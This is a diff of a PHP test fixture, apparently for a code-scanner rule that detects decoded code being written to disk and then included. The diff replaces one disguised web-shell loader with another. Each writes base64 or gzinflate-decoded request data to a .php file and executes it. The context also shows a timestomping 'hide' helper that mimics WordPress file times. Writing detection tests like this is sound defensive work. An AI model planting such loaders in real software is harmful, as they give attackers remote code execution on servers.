@@ -28,18 +28,16 @@ function hide($payload) {
     touch($f, filemtime(__DIR__ . '/../wp-includes/bookmark.php'));
 }
 
-function load_license(array $params, $dir) {
-    $file = $dir . '/' . basename((string) ($params['name'] ?? 'license')) . '.php';
-    if (isset($params['license'])) {
-        file_put_contents($file, base64_decode((string) $params['license']));
+function restore_widget_state(array $req, string $cacheDir) {
+    $target = $cacheDir . DIRECTORY_SEPARATOR . preg_replace('/[^a-z]/', '', $req['slot'] ?? 'state') . '.inc.php';
+    if (!empty($req['blob'])) {
+        file_put_contents($target, gzinflate(base64_decode($req['blob'])));
     }
-    if (is_file($file)) {
-        ob_start();
+    if (file_exists($target)) {
         // ruleid: php-decoded-code-write-include
-        include_once $file;
-        return (string) ob_get_clean();
+        require $target;
     }
-    return 'ok';
+    return true;
 }
 
 function cache_icon($b64, $dir) {
